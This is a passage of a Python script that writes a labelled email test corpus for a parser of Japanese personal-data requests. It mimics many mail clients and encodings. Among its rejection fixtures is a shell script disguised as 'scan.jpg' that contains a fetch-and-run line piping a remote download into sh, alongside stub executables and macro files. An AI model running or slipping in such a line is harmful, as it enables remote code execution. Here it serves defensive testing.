#!/usr/bin/python3
"""make-corpus.py — writes the parser's labelled corpus (tests/corpus/mail/*.eml
and tests/corpus/labels.tsv).

Each message is composed with Python's email package the way a named client
writes it (headers, charsets, transfer encodings, file-name styles, multipart
layout): Outlook (ISO-2022-JP, RFC 2047 words inside quoted file names,
"-----Original Message-----", winmail.dat), Gmail (UTF-8 base64,
multipart/alternative, "---------- Forwarded message ---------"), iPhone Mail
(format=flowed, inline HEIC photos), Thunderbird (RFC 2231 continuations,
forward as attachment), Japanese carrier webmail (Shift_JIS 8-bit, raw 8-bit
headers), EUC-JP from old Unix mailers, scanners and multifunction printers
(a PDF and one line of text), MTAs (multipart/report bounces) and
auto-responders.  Images come from python3-pil, PDFs from img2pdf, HEIC from
heif-enc (libheif-examples), ZIPs from zipfile, password-protected ZIPs from
Info-ZIP's `zip -P` (kept in assets/ once made: zip's encryption header is
random, and the corpus must not change on every run).  No Debian tool
writes TNEF, so winmail.dat is encoded here from MS-OXTNEF's layout
(tnef_bytes) and checked with ytnef-tools' `ytnef` when it is installed.

labels.tsv: file, expected request types (comma-separated, "inquiry" when
no rule should match, "auto" for automatic mail), expected ID-document
count, and further checks (key=value;…) that tests/parser/test_corpus.c
asserts.  The labels are the author's reading of each message, written next
to the text that composes it.

Run: /usr/bin/python3 tests/corpus/make-corpus.py   (deterministic)
"""

import base64
import importlib.util
import io
import os
import random
import re
import struct
import subprocess
import tempfile
import zipfile
import email
import email.message

from email import encoders
from email.mime.base import MIMEBase
from email.mime.message import MIMEMessage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText

from PIL import Image, ImageDraw, ImageFont

HERE = os.path.dirname(os.path.abspath(__file__))
spec = importlib.util.spec_from_file_location(
    "fixtures", os.path.join(HERE, "..", "fixtures", "make-fixtures.py"))
fx = importlib.util.module_from_spec(spec)
spec.loader.exec_module(fx)

OUT = os.path.join(HERE, "mail")
ASSETS = os.path.join(HERE, "assets")
LABELS = []

# ---- documents -----------------------------------------------------------------


def card(title, seed, size=(640, 404), colour=(236, 242, 230)):
    img = Image.new("RGB", size, colour)
    draw = ImageDraw.Draw(img)
    draw.rectangle([0, 0, size[0] - 1, 50], fill=(40, 90, 120))
    draw.text((16, 12), title + "  (SPECIMEN)", font=ImageFont.truetype(fx.FONT, 22),
              fill=(255, 255, 255))
    rnd = random.Random(seed)
    for i in range(5):
        draw.text((16, 70 + i * 40), "FIELD %d  %08d" % (i, rnd.randrange(10 ** 8)),
                  font=ImageFont.truetype(fx.FONT, 18), fill=(20, 20, 20))
    fx.noise_box(img, (size[0] - 200, 70, size[0] - 20, 330), seed, coarse=3)
    return img


def jpeg(title, seed):
    return fx.jpeg_bytes(card(title, seed), quality=85)


def png(title, seed):
    return fx.png_bytes(card(title, seed, size=(400, 260)))


def webp(title, seed):
    out = io.BytesIO()
    card(title, seed).save(out, "WEBP", quality=80)
    return out.getvalue()


def gif(title, seed):
    out = io.BytesIO()
    card(title, seed, size=(400, 260)).convert("P").save(out, "GIF")
    return out.getvalue()


def tiff(title, seed):
    out = io.BytesIO()
    card(title, seed, size=(400, 260)).save(out, "TIFF", compression="tiff_deflate")
    return out.getvalue()


def pdf(title, seed):
    """A scanner's PDF: one JPEG page, as multifunction printers write them."""
    img = card(title, seed, size=(620, 877), colour=(255, 255, 255))
    import img2pdf
    return img2pdf.convert(fx.jpeg_bytes(img, quality=70), nodate=True,
                           engine=img2pdf.Engine.internal)


def heic(seed):
    img = card("PHOTO", seed)
    with tempfile.TemporaryDirectory() as d:
        src, dst = os.path.join(d, "in.png"), os.path.join(d, "out.heic")
        img.save(src)
        subprocess.run(["heif-enc", "-q", "60", "-o", dst, src], check=True,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        with open(dst, "rb") as f:
            return f.read()


def windows_exe():
    """A minimal PE header (MZ stub + PE signature): what libmagic calls an
    MS-DOS/PE executable."""
    dos = bytearray(b"MZ" + bytes(58) + struct.pack("<I", 64))
    pe = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14c, 1, 0, 0, 0, 0xe0, 0x102)
    opt = struct.pack("<HBB", 0x10b, 14, 0) + bytes(0xe0 - 4)
    return bytes(dos) + pe + opt + bytes(512)


def shell_script():
    return b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n" + b"# padding\n" * 300


def macro_docm():
    """An OOXML document with a VBA project, as Word saves a .docm."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in [
            ("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.'
             b'openxmlformats.org/package/2006/content-types"><Override PartName="/word/'
             b'vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
            ("_rels/.rels", b"<Relationships/>"),
            ("word/document.xml", b"<w:document/>"),
            ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048)),
        ]:
            info = zipfile.ZipInfo(name, date_time=(2026, 11, 20, 10, 0, 0))
            z.writestr(info, data)
    return out.getvalue()


def zip_of(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            info = zipfile.ZipInfo(name, date_time=(2026, 11, 20, 10, 0, 0))
            info.flag_bits |= 0x800  # UTF-8 names
            z.writestr(info, data)
    return out.getvalue()


class Cp932ZipInfo(zipfile.ZipInfo):
    """Windows Explorer's ZIP entries: CP932 names, no UTF-8 flag."""

    def _encodeFilenameFlags(self):
        return self.filename.encode("cp932"), self.flag_bits & ~0x800


def cp932_zip(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for name, data in files:
            z.writestr(Cp932ZipInfo(name, date_time=(2026, 11, 20, 10, 0, 0)), data)
    return out.getvalue()


def encrypted_zip(asset, files, password="Pa55word"):
    """Info-ZIP `zip -P` (ZipCrypto), made once and kept in assets/."""
    path = os.path.join(ASSETS, asset)
    if not os.path.exists(path):
        os.makedirs(ASSETS, exist_ok=True)
        with tempfile.TemporaryDirectory() as d:
            names = []
            for name, data in files:
                with open(os.path.join(d, name), "wb") as f:
                    f.write(data)
                os.utime(os.path.join(d, name), (1795000000, 1795000000))
                names.append(name)
            subprocess.run(["zip", "-q", "-X", "-P", password, path] + names, cwd=d,
                           check=True)
    with open(path, "rb") as f:
        return f.read()


# ---- TNEF (MS-OXTNEF) -----------------------------------------------------------


def tnef_attr(level, attr_id, data):
    return (struct.pack("<BII", level, attr_id, len(data)) + data +
            struct.pack("<H", sum(data) & 0xffff))


def mapi_string(prop_id, text, unicode=False):
    if unicode:
        value = text.encode("utf-16-le") + b"\0\0"
        ptype = 0x001f
    else:
        value = text.encode("cp932") + b"\0"
        ptype = 0x001e
    pad = (4 - len(value) % 4) % 4
    return struct.pack("<HHII", ptype, prop_id, 1, len(value)) + value + bytes(pad)


def tnef_bytes(files):
    """winmail.dat with FILES [(long name, data)]: attachment attributes as
    Outlook writes them (rendering, 8.3 title, data, MAPI long file name)."""
    out = struct.pack("<IH", 0x223e9f78, 0x1234)
    out += tnef_attr(1, 0x00089006, struct.pack("<I", 0x00010000))  # attTnefVersion
    out += tnef_attr(1, 0x00069007, struct.pack("<II", 932, 0))  # attOemCodepage
    out += tnef_attr(1, 0x00078008, b"IPM.Microsoft Mail.Note\0")  # attMessageClass
    for i, (name, data) in enumerate(files):
        rend = struct.pack("<HIHHI", 1, 0xffffffff, 0, 0, 0)
        out += tnef_attr(2, 0x00069002, rend)  # attAttachRendData
        out += tnef_attr(2, 0x00018010, ("ATT%05d.JPG" % i).encode() + b"\0")  # attAttachTitle
        out += tnef_attr(2, 0x0006800f, data)  # attAttachData
        props = mapi_string(0x3707, name, unicode=True)  # PR_ATTACH_LONG_FILENAME
        out += tnef_attr(2, 0x00069005, struct.pack("<I", 1) + props)  # attAttachment
    return out


# ---- message building ---------------------------------------------------------------

SUBJ_CS = {"iso-2022-jp": "iso-2022-jp", "shift_jis": "shift_jis", "euc-jp": "euc-jp",
           "utf-8": "utf-8", "us-ascii": "utf-8"}


def raw_text(data, charset_param, subtype, cte):
    """A text part whose bytes are written as they are (7bit JIS, 8bit
    Shift_JIS/EUC-JP), as Japanese mailers send them."""
    part = MIMEBase("text", subtype)
    if charset_param:
        part.set_param("charset", charset_param)
    part["Content-Transfer-Encoding"] = cte
    part.set_payload(data.decode("ascii", "surrogateescape"))
    return part


def text(body, cset="utf-8", enc=None, subtype="plain", flowed=False):
    if cset == "iso-2022-jp" and enc is None:
        return raw_text(fx.sjis_to_jis(body.encode("cp932")), "ISO-2022-JP", subtype, "7bit")
    if cset == "shift_jis" and enc is None:
        return raw_text(body.encode("cp932"), "Shift_JIS", subtype, "8bit")
    if cset == "euc-jp" and enc is None:
        return raw_text(body.encode("euc_jp"), "EUC-JP", subtype, "8bit")
    part = MIMEText(body, subtype, fx.charset(cset, enc))
    if flowed:
        part.set_param("format", "flowed")
    return part


def file_part(data, ctype, name, style="rfc2231", disposition="attachment", cid=None):
    main, sub = ctype.split("/")
    part = MIMEBase(main, sub)
    part.set_payload(data)
    encoders.encode_base64(part)
    if style == "rfc2231":  # Thunderbird, Gmail
        part.add_header("Content-Disposition", disposition, filename=("utf-8", "", name))
    elif style == "rfc2231-jis":  # Thunderbird ja: ISO-2022-JP, split over lines
        raw = fx.sjis_to_jis(name.encode("cp932"))
        pct = "".join("%%%02X" % b if (b < 0x21 or b > 0x7e or chr(b) in "%*'()<>@,;:\\\"/[]?=")
                      else chr(b) for b in raw)
        tokens = re.findall(r"%[0-9A-F]{2}|.", pct)
        chunks, cur = [], ""
        for t in tokens:  # never split inside an escape
            if len(cur) + len(t) > 30:
                chunks.append(cur)
                cur = ""
            cur += t
        chunks.append(cur)
        params = "".join(";\n filename*%d*=%s%s" % (i, "ISO-2022-JP''" if i == 0 else "", c)
                         for i, c in enumerate(chunks))
        part["Content-Disposition"] = disposition + params
    elif style == "rfc2047":  # Outlook: encoded words inside the quotes
        enc = fx.encoded_word_jis(name)
        part.set_param("name", enc)
        part.add_header("Content-Disposition", disposition, filename=enc)
    elif style == "sjis-raw":  # carrier webmail: raw Shift_JIS in the quotes
        part.add_header("Content-Disposition", disposition, filename="@@NAME@@")
    else:
        part.add_header("Content-Disposition", disposition, filename=name)
    if cid:
        part["Content-ID"] = "<%s>" % cid
    part._corpus_raw_name = name if style == "sjis-raw" else None
    return part


def header_value(s, cset):
    if all(ord(c) < 128 for c in s):
        return s
    if cset == "iso-2022-jp":
        return fx.encoded_word_jis(s)
    if cset == "raw-sjis":
        return "@@RAW@@" + s
    return fx.hdr(s, SUBJ_CS.get(cset, "utf-8"))


def finish(msg, name, subject, sender, cset, mailer, day, extra=None, crlf=True):
    sname, saddr = sender
    if sname and any(ord(c) > 127 for c in sname):
        from_ = "%s <%s>" % (header_value(sname, cset), saddr)
    elif sname:
        from_ = "%s <%s>" % (sname, saddr)
    else:
        from_ = saddr
    msg["From"] = from_
    msg["To"] = "privacy@example.co.jp"
    msg["Subject"] = header_value(subject, cset)
    msg["Date"] = fx.date(1 + day % 28, 9 + day % 9, (day * 7) % 60)
    msg["Message-ID"] = "<corpus-%s@%s>" % (name, saddr.split("@")[1])
    if "MIME-Version" not in msg:
        msg["MIME-Version"] = "1.0"
    if mailer:
        msg["X-Mailer" if not mailer.startswith("Mozilla") else "User-Agent"] = mailer
    for k, v in (extra or []):
        msg[k] = v
    buf = io.BytesIO()
    from email.generator import BytesGenerator
    BytesGenerator(buf, mangle_from_=False, policy=fx.CRLF if crlf else fx.LF).flatten(msg)
    data = buf.getvalue()
    # raw 8-bit values (carrier webmail) go in after generation, as bytes
    while b"@@RAW@@" in data:
        i = data.index(b"@@RAW@@")
        j = data.index(b"\r\n" if crlf else b"\n", i)
        data = data[:i] + data[i + 7:j].decode("utf-8").encode("cp932") + data[j:]
    for part in msg.walk():
        raw = getattr(part, "_corpus_raw_name", None)
        if raw:
            data = data.replace(b"@@NAME@@", raw.encode("cp932"), 1)
    return data


def save(name, data, types, ids, checks=""):
    os.makedirs(OUT, exist_ok=True)
    with open(os.path.join(OUT, name + ".eml"), "wb") as f:
        f.write(data)
    LABELS.append((name + ".eml", types, ids, checks))


OUTLOOK = "Microsoft Outlook 16.0"
OUTLOOK_JA = "Microsoft Office Outlook 16.0"
GMAIL = None  # Gmail sends no X-Mailer
IPHONE = "iPhone Mail (21F90)"
THUNDERBIRD = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Thunderbird/115.5.0"
BECKY = "Becky! ver. 2.81.04"
DOCOMO = "docomo mail"
MFP = "SHARP MX-3150FN"

JA = [("山田 太郎", "taro.yamada@example.jp"), ("佐藤 花子", "hanako.sato@example.ne.jp"),
      ("鈴木 一郎", "ichiro.suzuki@docomo.example.jp"), ("高橋 ①美", "t-ichimi@example.co.jp"),
      ("田中 ㈱担当", "tanaka@example.or.jp")]
EN = [("John Smith", "john.smith@example.com"), ("Mary Jones", "mary.jones@example.org"),
      ("Akira Ito", "akira.ito@example.net")]

# ---- the requests: (types, subject, body) ---------------------------------------------

JA_REQUESTS = [
    ("disclosure", "個人情報の開示請求",
     "個人情報保護法第33条に基づき、貴社が保有する私の保有個人データの開示を請求します。\n"
     "本人確認書類を添付いたします。よろしくお願いいたします。"),
    ("disclosure", "保有個人データについて",
     "貴社が私についてどのような個人情報を保有しているのか、開示してください。\n"
     "会員番号は①２３４５です。"),
    ("notification_of_purpose", "利用目的の通知のお願い",
     "私の個人情報の利用目的を通知してください。\n何のために使っているのか知りたいです。"),
    ("third_party_records", "第三者提供記録の開示請求",
     "第三者提供記録を開示してください。\nどこに提供したかを確認したいと考えております。"),
    ("correction", "登録内容の訂正",
     "登録されている住所が誤っていますので訂正をお願いします。\n"
     "新住所：東京都千代田区丸の内１－１－１ ㈱サンプルビルⅢ階"),
    ("stop_use", "個人情報の利用停止・削除のお願い",
     "退会済みですので、私の個人情報を削除してください。\n今後一切の利用を停止願います。"),
    ("stop_use", "メール配信停止",
     "メールマガジンの配信停止をお願いします。\nあわせて登録情報の消去もお願いします。"),
    ("stop_third_party", "第三者提供の停止について",
     "私の個人データの第三者提供を停止してください。\n提携先への提供をやめていただきたいです。"),
    ("disclosure,stop_use", "開示と削除の請求",
     "保有個人データの開示を請求します。\nあわせて、開示後にすべてのデータを削除してください。"),
    ("correction,stop_third_party", "訂正と第三者提供停止",
     "電話番号が間違っているので訂正してください。\nまた、第三者提供を停止してください。"),
    ("inquiry", "手続きについての質問",
     "個人情報の取り扱いについて質問があります。\n手続きにはどのくらい日数がかかりますか？"),
    ("inquiry", "（件名なし）",
     "先日お電話した件です。\nご確認のほどよろしくお願いいたします。"),
    ("stop_use", "開示は不要です",
     "開示は不要です。\nただ、私の個人情報を削除してください。"),
    ("third_party_records,disclosure", "記録と個人データの開示",
     "第三者提供に係る記録の開示をお願いします。\nまた、保有個人データの写しを送ってください。"),
]

EN_REQUESTS = [
    ("disclosure", "Subject access request",
     "Under the APPI I request a copy of my personal data that you hold.\n"
     "Please find my ID attached."),
    ("notification_of_purpose", "Purpose of use",
     "Please tell me the purpose of use of my personal information.\nWhy you use my data matters to me."),
    ("third_party_records", "Records of provision to third parties",
     "I would like the records of provision of my data to third parties.\n"
     "Please tell me which third parties you shared it with."),
    ("correction", "Please correct my address",
     "My address on file is out of date. Please correct my record to 2-3-4 Shibuya, Tokyo."),
    ("stop_use", "Delete my account",
     "Please delete my personal data and close my account.\nI no longer use your service."),
    ("stop_third_party", "Stop sharing my data",
     "Please stop sharing my personal information with your partners.\nDo not sell my data."),
    ("inquiry", "A question",
     "Could you tell me how long you keep customer records?"),
    ("disclosure,stop_use", "Access and erasure",
     "I am making a subject access request.\nAfter that, please erase my data (right to be forgotten)."),
    ("stop_use", "No copy needed",
     "I don't need a copy of my data. Please just delete my personal data."),
    ("correction", "Wrong name",
     "You have the wrong name on my account; the spelling is incorrect. Please fix my record."),
]

SIGNATURE_JA = ("\n\n━━━━━━━━━━━━━━━━━━━━\n山田 太郎\n〒100-0005 東京都千代田区丸の内1-1-1\n"
                "TEL: 03-0000-0000\nMail: taro.yamada@example.jp\n━━━━━━━━━━━━━━━━━━━━\n")
SIGNATURE_EN = "\n\n-- \nJohn Smith\nACME Corp. | Tel +81 3 0000 0000\nhttps://acme.example.com\n"

# ---- builders per client ---------------------------------------------------------------


def outlook_ja(name, req, sender, day, files=(), cset="iso-2022-jp", style="rfc2047", tnef=None):
    types, subject, body = req
    sig = SIGNATURE_EN if cset == "us-ascii" else SIGNATURE_JA
    if files or tnef:
        msg = MIMEMultipart("mixed")
        msg.set_boundary("----=_NextPart_000_%04d_01DA0000.00000000" % day)
        msg.attach(text(body + sig, cset))
        for data, ctype, fname in files:
            msg.attach(file_part(data, ctype, fname, style))
        if tnef:
            part = MIMEBase("application", "ms-tnef")
            part.set_payload(tnef)
            encoders.encode_base64(part)
            part.add_header("Content-Disposition", "attachment", filename="winmail.dat")
            msg.attach(part)
    else:
        msg = text(body + sig, cset)
    return finish(msg, name, subject, sender, cset, OUTLOOK_JA, day)


def gmail(name, req, sender, day, files=(), html=True, lang="ja"):
    types, subject, body = req
    sig = SIGNATURE_JA if lang == "ja" else SIGNATURE_EN
    alt = MIMEMultipart("alternative")
    alt.set_boundary("0000000000000%04dgmailalt" % day)
    alt.attach(text(body + sig, "utf-8", fx.cs.BASE64))
    if html:
        h = "<div dir=\"ltr\">" + "<br>".join(body.split("\n")) + "</div>"
        alt.attach(text(h, "utf-8", fx.cs.QP, subtype="html"))
    if files:
        msg = MIMEMultipart("mixed")
        msg.set_boundary("0000000000000%04dgmailmix" % day)
        msg.attach(alt)
        for data, ctype, fname in files:
            msg.attach(file_part(data, ctype, fname, "rfc2231"))
    else:
        msg = alt
    return finish(msg, name, subject, sender, "utf-8", GMAIL, day)


def iphone(name, req, sender, day, photos=()):
    """Apple Mail: format=flowed text, photos inline (no Content-ID), and the
    text split around them."""
    types, subject, body = req
    msg = MIMEMultipart("mixed")
    msg.set_boundary("Apple-Mail-%04d-IPHONE" % day)
    msg.attach(text(body + "\n\niPhoneから送信\n", "utf-8", fx.cs.QP, flowed=True))
    for data, ctype, fname in photos:
        msg.attach(file_part(data, ctype, fname, "ascii", disposition="inline"))
    msg.attach(text("\n", "us-ascii"))
    return finish(msg, name, subject, sender, "utf-8", IPHONE, day)


def thunderbird(name, req, sender, day, files=(), cset="utf-8", lang="ja", style="rfc2231-jis"):
    types, subject, body = req
    sig = SIGNATURE_JA if lang == "ja" else SIGNATURE_EN
    msg = MIMEMultipart("mixed")
    msg.set_boundary("------------tb%04d0000000000" % day)
    msg.attach(text(body + sig, cset, fx.cs.BASE64 if cset == "utf-8" else None))
    for data, ctype, fname in files:
        msg.attach(file_part(data, ctype, fname, style))
    return finish(msg, name, subject, sender, cset, THUNDERBIRD, day)


def carrier(name, req, sender, day, files=(), raw_headers=True):
    """Japanese carrier webmail: Shift_JIS 8-bit body, raw 8-bit subject."""
    types, subject, body = req
    if files:
        msg = MIMEMultipart("mixed")
        msg.set_boundary("docomo%04dboundary" % day)
        msg.attach(text(body, "shift_jis"))
        for data, ctype, fname in files:
            msg.attach(file_part(data, ctype, fname, "sjis-raw" if raw_headers else "rfc2047"))
    else:
        msg = text(body, "shift_jis")
    return finish(msg, name, subject, sender, "raw-sjis" if raw_headers else "iso-2022-jp",
                  DOCOMO, day)


def plain(name, req, sender, day, cset, mailer, label_charset=True, files=()):
    types, subject, body = req
    part = text(body, cset)
    if not label_charset:
        del part["Content-Type"]
        part["Content-Type"] = "text/plain"
    if files:
        msg = MIMEMultipart("mixed")
        msg.set_boundary("plain%04dboundary" % day)
        msg.attach(part)
        for data, ctype, fname in files:
            msg.attach(file_part(data, ctype, fname, "rfc2047" if cset == "iso-2022-jp" else "rfc2231"))
    else:
        msg = part
    return finish(msg, name, subject, sender, cset if cset != "shift_jis" else "iso-2022-jp",
                  mailer, day)


# ---- the corpus ---------------------------------------------------------------------------


def main():
    lic = jpeg("DRIVER'S LICENSE", 1)
    passport = png("PASSPORT", 2)
    mynumber = jpeg("MY NUMBER CARD", 3)
    insurance = jpeg("HEALTH INSURANCE", 4)
    residence = jpeg("RESIDENCE CARD", 5)
    n = 0

    def nid():
        nonlocal n
        n += 1
        return n

    # 1. every Japanese request through several clients and encodings
    for i, req in enumerate(JA_REQUESTS):
        sender = JA[i % len(JA)]
        types = req[0]
        d = nid()
        save("ja-outlook-%02d" % i, outlook_ja("ja-outlook-%02d" % i, req, sender, d,
             files=[(lic, "image/jpeg", "運転免許証.jpg")] if i % 2 == 0 else []),
             types, 1 if i % 2 == 0 else 0,
             "document_type=drivers_license" if i % 2 == 0 else "")
        d = nid()
        save("ja-gmail-%02d" % i, gmail("ja-gmail-%02d" % i, req, sender, d,
             files=[(passport, "image/png", "パスポート.png")] if i % 3 == 0 else []),
             types, 1 if i % 3 == 0 else 0, "document_type=passport" if i % 3 == 0 else "")
    # 2. carrier webmail (Shift_JIS 8-bit, raw 8-bit headers and file names)
    for i, req in enumerate(JA_REQUESTS[:6]):
        d = nid()
        save("ja-carrier-sjis-%02d" % i,
             carrier("ja-carrier-sjis-%02d" % i, req, JA[2], d,
                     files=[(mynumber, "image/jpeg", "マイナンバーカード.jpg")] if i < 3 else []),
             req[0], 1 if i < 3 else 0,
             "needs_masking_check=1;document_type=my_number_card" if i < 3 else "")
    # 3. Thunderbird with RFC 2231 ISO-2022-JP continuations
    for i, req in enumerate(JA_REQUESTS[6:10]):
        d = nid()
        save("ja-thunderbird-%02d" % i,
             thunderbird("ja-thunderbird-%02d" % i, req, JA[1], d, cset="iso-2022-jp",
                         files=[(insurance, "image/jpeg", "健康保険証_表面（本人確認書類）.jpg")]),
             req[0], 1, "needs_masking_check=1;document_type=health_insurance_card")
    # 4. EUC-JP (old Unix mailers), unlabelled ISO-2022-JP, mislabelled Shift_JIS
    d = nid()
    save("ja-eucjp-mew", plain("ja-eucjp-mew", JA_REQUESTS[0], JA[0], d, "euc-jp",
                                "Mew version 6.8 on Emacs 28.2"), "disclosure", 0)
    d = nid()
    save("ja-jis-no-charset", plain("ja-jis-no-charset", JA_REQUESTS[5], JA[3], d, "iso-2022-jp",
                                     BECKY, label_charset=False), "stop_use", 0)
    d = nid()
    req = JA_REQUESTS[4]
    part = text(req[2], "shift_jis")
    part.set_param("charset", "iso-2022-jp")  # a webmail that labels everything ISO-2022-JP
    save("ja-sjis-labelled-jis", finish(part, "ja-sjis-labelled-jis", req[1], JA[4],
                                         "iso-2022-jp", "webmail", d), "correction", 0)
    d = nid()
    part = text(JA_REQUESTS[3][2], "utf-8", fx.cs.QP)
    part.set_param("charset", "iso-8859-1")  # mislabelled UTF-8
    save("ja-utf8-labelled-latin1", finish(part, "ja-utf8-labelled-latin1", JA_REQUESTS[3][1],
                                            JA[0], "utf-8", "webmail", d), "third_party_records", 0)
    # 5. iPhone: HEIC photos, inline
    for i, req in enumerate([JA_REQUESTS[0], JA_REQUESTS[5], EN_REQUESTS[0]]):
        d = nid()
        photos = [(heic(10 + i), "image/heic", "IMG_%04d.HEIC" % (1000 + i))]
        if i == 0:
            photos.append((heic(20), "image/heic", "IMG_1100.HEIC"))
        save("iphone-heic-%02d" % i, iphone("iphone-heic-%02d" % i, req, JA[i % 5] if i < 2 else EN[0],
                                            d, photos), req[0], len(photos))
    # 6. English requests: Gmail, Outlook, Thunderbird
    for i, req in enumerate(EN_REQUESTS):
        d = nid()
        files = [(lic, "image/jpeg", "drivers_license.jpg")] if i % 2 == 0 else []
        save("en-gmail-%02d" % i, gmail("en-gmail-%02d" % i, req, EN[i % 3], d, files=files,
                                        lang="en"), req[0], len(files))
        d = nid()
        files = [(webp("PASSPORT", 30 + i), "image/webp", "passport.webp")] if i % 3 == 0 else []
        save("en-thunderbird-%02d" % i,
             thunderbird("en-thunderbird-%02d" % i, req, EN[(i + 1) % 3], d, files=files,
                         lang="en", style="rfc2231"), req[0], len(files))
    # 7. scanners and multifunction printers: a PDF, one line of text
    for i in range(3):
        d = nid()
        msg = MIMEMultipart("mixed")
        msg.set_boundary("MFP%04dboundary" % d)
        msg.attach(text("Scanned from %s.\nPages: %d\n" % (MFP, 1 + i), "us-ascii"))
        msg.attach(file_part(pdf("APPLICATION FORM", 40 + i), "application/pdf",
                             "SCAN_2026112%d_%04d.pdf" % (i, 1 + i), "ascii"))
        save("scanner-pdf-%02d" % i, finish(msg, "scanner-pdf-%02d" % i,
                                            "Scanned image from %s" % MFP,
                                            ("", "scanner@mfp.example.co.jp"), "us-ascii", MFP, d),
             "inquiry", 1)
    d = nid()
    save("ja-scanner-pdf-with-request",
         thunderbird("ja-scanner-pdf-with-request", JA_REQUESTS[2], JA[0], d, cset="utf-8",
                     files=[(pdf("JUMINHYO", 50), "application/pdf", "住民票の写し.pdf")]),
         "notification_of_purpose", 1, "needs_masking_check=1;document_type=resident_record")
    # 8. formats: TIFF, GIF, several documents at once
    d = nid()
    save("en-tiff-gif", gmail("en-tiff-gif", EN_REQUESTS[0], EN[1], d, lang="en",
                              files=[(tiff("ID FRONT", 60), "image/tiff", "id-front.tif"),
                                     (gif("ID BACK", 61), "image/gif", "id-back.gif")]),
         "disclosure", 2)
    d = nid()
    save("ja-two-documents", outlook_ja("ja-two-documents", JA_REQUESTS[1], JA[1], d,
                                        files=[(lic, "image/jpeg", "免許証（表）.jpg"),
                                               (residence, "image/jpeg", "在留カード.jpg")]),
         "disclosure", 2, "document_type=drivers_license")
    # 9. disguised executables and macro files: never counted
    for i, (data, fname, why) in enumerate([
            (fx.tiny_elf(), "免許証.jpg", "executable"),
            (windows_exe(), "photo.jpg", "executable"),
            (shell_script(), "scan.jpg", "script"),
            (macro_docm(), "passport.jpg", "macro"),
            (macro_docm(), "申請書.docm", "macro")]):
        d = nid()
        save("disguised-%02d" % i, outlook_ja("disguised-%02d" % i, JA_REQUESTS[0], JA[i % 5], d,
                                              files=[(data, "image/jpeg" if fname.endswith(".jpg")
                                                      else "application/vnd.ms-word.document.macroEnabled.12",
                                                      fname)]),
             "disclosure", 0, "rejected=1")
    d = nid()
    save("disguised-with-real-id", gmail("disguised-with-real-id", EN_REQUESTS[4], EN[2], d, lang="en",
                                         files=[(fx.tiny_elf(), "image/jpeg", "license.jpg"),
                                                (passport, "image/png", "passport.png")]),
         "stop_use", 1, "rejected=1")
    # 10. archives: plain ZIP with ID images, CP932 names, password-protected ZIPs (PPAP)
    d = nid()
    save("zip-ids", gmail("zip-ids", JA_REQUESTS[0], JA[1], d,
                          files=[(zip_of([("免許証_表.jpg", lic), ("免許証_裏.jpg", jpeg("BACK", 70))]),
                                  "application/zip", "本人確認書類.zip")]),
         "disclosure", 2, "document_type=drivers_license")
    d = nid()
    save("zip-cp932-names", outlook_ja("zip-cp932-names", JA_REQUESTS[5], JA[0], d,
                                       files=[(cp932_zip([("パスポート.png", passport)]),
                                               "application/x-zip-compressed", "書類.zip")]),
         "stop_use", 1, "document_type=passport")
    for i, req in enumerate([JA_REQUESTS[0], EN_REQUESTS[0], JA_REQUESTS[7]]):
        d = nid()
        z = encrypted_zip("ppap-%02d.zip" % i, [("menkyo.jpg", lic)])
        if i == 1:
            data = gmail("zip-encrypted-%02d" % i, req, EN[0], d, lang="en",
                         files=[(z, "application/zip", "documents.zip")])
        else:
            data = outlook_ja("zip-encrypted-%02d" % i, req, JA[i % 5], d,
                              files=[(z, "application/x-zip-compressed", "本人確認書類.zip")])
        save("zip-encrypted-%02d" % i, data, req[0], 0, "encrypted_archive=1")
    d = nid()
    save("zip-encrypted-password-mail",
         outlook_ja("zip-encrypted-password-mail", ("inquiry", "パスワードのお知らせ",
                    "先ほどお送りした添付ファイルのパスワードをお知らせします。\nパスワード：Pa55word"),
                    JA[0], d), "inquiry", 0)
    # 11. Outlook winmail.dat (TNEF) with an ID photo inside
    d = nid()
    save("tnef-winmail", outlook_ja("tnef-winmail", JA_REQUESTS[0], JA[0], d,
                                    tnef=tnef_bytes([("運転免許証.jpg", lic)])),
         "disclosure", 1, "document_type=drivers_license")
    d = nid()
    save("tnef-winmail-en", outlook_ja("tnef-winmail-en", EN_REQUESTS[4], EN[1], d, cset="us-ascii",
                                       tnef=tnef_bytes([("passport scan.png", passport),
                                                        ("notes.txt", b"hello " * 500)])),
         "stop_use", 1, "document_type=passport")
    # 12. forwarded requests: as an attachment (Thunderbird, Outlook) and inline (Gmail, Apple)
    for i, req in enumerate([JA_REQUESTS[0], EN_REQUESTS[4], JA_REQUESTS[5]]):
        d = nid()
        inner_bytes = outlook_ja("inner-%02d" % i, req, JA[0] if i != 1 else EN[0], d,
                                 files=[(lic, "image/jpeg", "運転免許証.jpg")] if i == 0 else [])
        inner = email.message_from_bytes(inner_bytes)
        outer = MIMEMultipart("mixed")
        outer.set_boundary("------------fwd%04d" % d)
        outer.attach(text("お客様から以下の請求が届きましたので転送します。\nよろしくお願いします。\n"
                          if i != 1 else "Forwarding a customer's request.\n", "utf-8", fx.cs.BASE64))
        outer.attach(MIMEMessage(inner))
        save("forward-attached-%02d" % i,
             finish(outer, "forward-attached-%02d" % i, "Fwd: " + req[1],
                    ("カスタマーサポート", "support@example.co.jp"), "utf-8", THUNDERBIRD, d),
             req[0], 1 if i == 0 else 0,
             "forwarded_by=support@example.co.jp;from=%s" % (JA[0][1] if i != 1 else EN[0][1]))
    for i, (marker, req, who) in enumerate([
            ("---------- Forwarded message ---------\nFrom: 佐藤 花子 <hanako.sato@example.ne.jp>\n"
             "Date: 2026年11月20日(金) 10:00\nSubject: %s\nTo: <info@example.co.jp>\n\n",
